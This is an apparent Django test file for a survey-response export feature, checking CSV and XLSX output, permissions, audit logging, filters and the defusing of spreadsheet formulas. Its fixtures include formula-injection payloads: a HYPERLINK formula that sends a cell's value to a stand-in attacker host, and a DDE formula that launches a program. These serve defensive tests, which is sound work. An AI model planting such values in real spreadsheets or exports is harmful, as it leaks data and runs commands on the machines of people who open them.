"""Exports of a survey's responses: one row per complete response, safe in any spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from unittest import mock

from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from cxcore.customers.models import AuditEntry
from cxcore.feedback import exports
from cxcore.feedback.tests.test_results import FEB, JAN, ResultsFixture
from cxcore.test import BaseTestCase

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FIXED_COLUMNS = [
    "response",
    "completed at",
    "channel",
    "language",
    "touchpoint",
    "team",
    "partner",
    "site",
    "NPS category",
]
QUESTION_KEYS = ["nps", "csat", "ces", "stars", "reason", "why", "again", "comment"]


def parse_csv(lines) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines))))


def read_xlsx(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


class ExportRowsTests(ResultsFixture, BaseTestCase):
    def setUp(self):
        self.make_survey()
        self.first = self.respond(
            {
                "nps": 9,
                "stars": 4,
                "reason": "price",
                "why": ["late", "damaged"],
                "again": True,
                "comment": FORMULA,
            },
            at=JAN,
        )
        self.second = self.respond(
            {"nps": 3, "again": False, "comment": "-2+3 @SUM(A1) \x07bell"},
            at=FEB,
            touchpoint=self.store,
            channel="sms",
        )
        self.respond({"nps": 10}, complete=False)  # partial: not exported

    def rows(self, **kwargs) -> list[list]:
        with translation.override("en"):
            return list(exports.export_rows(self.survey, **kwargs))

    def test_one_row_per_complete_response_with_a_column_per_question(self):
        header, *rows = self.rows()
        self.assertEqual(header, FIXED_COLUMNS + QUESTION_KEYS)
        self.assertEqual([row[0] for row in rows], [self.first.pk, self.second.pk])
        first = dict(zip(header, rows[0], strict=True))
        self.assertEqual(first["completed at"], timezone.localtime(JAN))
        self.assertEqual(
            (first["channel"], first["language"], first["touchpoint"], first["NPS category"]),
            ("Web link", "fr", "Delivery", "promoter"),
        )
        self.assertEqual((first["team"], first["partner"], first["site"]), ("", "", ""))
        self.assertEqual((first["nps"], first["stars"], first["csat"]), (9, 4, None))
        self.assertEqual(
            (first["reason"], first["why"], first["again"]), ("price", "late;damaged", True)
        )
        self.assertEqual(first["comment"], FORMULA)  # plain values: the writers make them safe
        second = dict(zip(header, rows[1], strict=True))
        self.assertEqual(
            (second["touchpoint"], second["channel"], second["again"]),
            ("Store", "SMS reply", False),
        )

    def test_every_response_comes_once_across_chunks_even_at_the_same_second(self):
        same = [self.respond({"nps": n}, at=FEB) for n in (1, 2, 3)]
        with mock.patch.object(exports, "CHUNK", 2):
            ids = [row[0] for row in self.rows()[1:]]
        self.assertEqual(ids, [self.first.pk, self.second.pk, *(r.pk for r in same)])

    def test_customer_references_only_when_the_viewer_may_see_them(self):
        self.assertNotIn("customer", self.rows()[0])
        header, first, _second = self.rows(include_customer=True)
        self.assertEqual(header[9], "customer")
        self.assertEqual(first[9], self.customer.reference)
        self.assertNotIn("Roux", repr(first))

    def test_exports_take_the_results_filters(self):
        rows = self.rows(channel="sms")
        self.assertEqual([row[0] for row in rows[1:]], [self.second.pk])
        rows = self.rows(touchpoint_id=self.delivery.pk, date_to=JAN.date())
        self.assertEqual([row[0] for row in rows[1:]], [self.first.pk])

    def test_csv_defuses_formulas_in_cells(self):
        header, first, second = parse_csv(exports.csv_stream(self.rows()))
        self.assertEqual(first[header.index("comment")], "'" + FORMULA)
        self.assertEqual(second[header.index("comment")], "'-2+3 @SUM(A1) \x07bell")
        self.assertEqual(first[header.index("completed at")], timezone.localtime(JAN).isoformat())
        self.assertEqual(first[header.index("again")], "true")
        self.assertEqual(first[header.index("nps")], "9")

    def test_csv_and_xlsx_defuse_formulas_in_headers_too(self):
        rows = [
            ["=cmd|' /C calc'!A0", "+1", "@SUM(A1)", "-1", "\tx", "\rx", "ok"],
            [-5, "=A1", None],
        ]
        header, row = parse_csv(exports.csv_stream(rows))
        self.assertEqual(
            header, ["'=cmd|' /C calc'!A0", "'+1", "'@SUM(A1)", "'-1", "'\tx", "'\rx", "ok"]
        )
        self.assertEqual(row, ["-5", "'=A1", ""])  # a negative number is a number
        buffer = io.BytesIO()
        exports.xlsx_write(rows, buffer, title="=evil")
        header, row = read_xlsx(buffer.getvalue())
        self.assertEqual(header[:4], ["'=cmd|' /C calc'!A0", "'+1", "'@SUM(A1)", "'-1"])
        self.assertEqual(row[:2], [-5, "'=A1"])
        workbook = load_workbook(io.BytesIO(buffer.getvalue()))
        sheet = workbook.active
        self.assertTrue(all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line))

    def test_xlsx_keeps_numbers_and_dates_and_drops_what_xml_cannot_hold(self):
        buffer = io.BytesIO()
        exports.xlsx_write(self.rows(), buffer, title=self.survey.name)
        header, first, second = read_xlsx(buffer.getvalue())
        self.assertEqual(header, FIXED_COLUMNS + QUESTION_KEYS)
        self.assertEqual(first[header.index("comment")], "'" + FORMULA)
        self.assertEqual(first[header.index("nps")], 9)
        self.assertEqual(first[header.index("why")], "late;damaged")
        self.assertIs(first[header.index("again")], True)
        completed = first[header.index("completed at")]
        self.assertIsInstance(completed, datetime)
        self.assertEqual(completed, timezone.localtime(JAN).replace(tzinfo=None))
        self.assertEqual(second[header.index("comment")], "'-2+3 @SUM(A1) bell")


class ExportViewTests(ResultsFixture, BaseTestCase):
    def setUp(self):
        self.make_survey()
        self.respond({"nps": 9, "comment": FORMULA}, at=JAN)

    def get(self, user, fmt, params=None):
        self.client.force_login(user)
        return self.client.get(reverse("feedback:export", args=[self.survey.pk, fmt]), params or {})

    def test_export_needs_the_right_to_read_responses(self):
        self.assertEqual(self.get(self.marketer, "csv").status_code, 403)
        self.assertEqual(self.get(self.auditor, "xlsx").status_code, 403)
        self.assertEqual(self.get(self.manager, "pdf").status_code, 404)
        self.assertFalse(AuditEntry.objects.filter(action="export").exists())

    def test_csv_is_streamed_without_names_for_analysts_and_audited(self):
        response = self.get(self.analyst, "csv")
        self.assertEqual(response.status_code, 200)
        self.assertTrue(response.streaming)
        self.assertIn("attachment;", response["Content-Disposition"])
        header, row = parse_csv(b"".join(response.streaming_content).decode())
        self.assertNotIn("customer", header)
        self.assertEqual(row[header.index("comment")], "'" + FORMULA)
        entry = AuditEntry.objects.get(action="export", target=f"survey:{self.survey.pk}")
        self.assertEqual(
            (entry.actor, entry.changes["format"], entry.changes["customer"]),
            (self.analyst, "csv", False),
        )

    def test_xlsx_reads_back_with_customer_references_for_those_allowed(self):
        response = self.get(self.manager, "xlsx", {"channel": "web"})
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], exports_type())
        header, row = read_xlsx(b"".join(response.streaming_content))
        self.assertEqual(row[header.index("customer")], self.customer.reference)
        self.assertEqual(row[header.index("comment")], "'" + FORMULA)
        entry = AuditEntry.objects.get(action="export", target=f"survey:{self.survey.pk}")
        self.assertEqual((entry.changes["format"], entry.changes["customer"]), ("xlsx", True))
        self.assertEqual(entry.changes["filters"], {"channel": "web"})

    def test_bad_filters_are_refused(self):
        response = self.get(
            self.manager, "csv", {"date_from": "2025-03-01", "date_to": "2025-01-01"}
        )
        self.assertEqual(response.status_code, 400)
        self.assertFalse(AuditEntry.objects.filter(action="export").exists())
        self.assertEqual(
            self.get(self.manager, "csv", {"date_from": FEB.date().isoformat()}).status_code, 200
        )


def exports_type() -> str:
    return "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
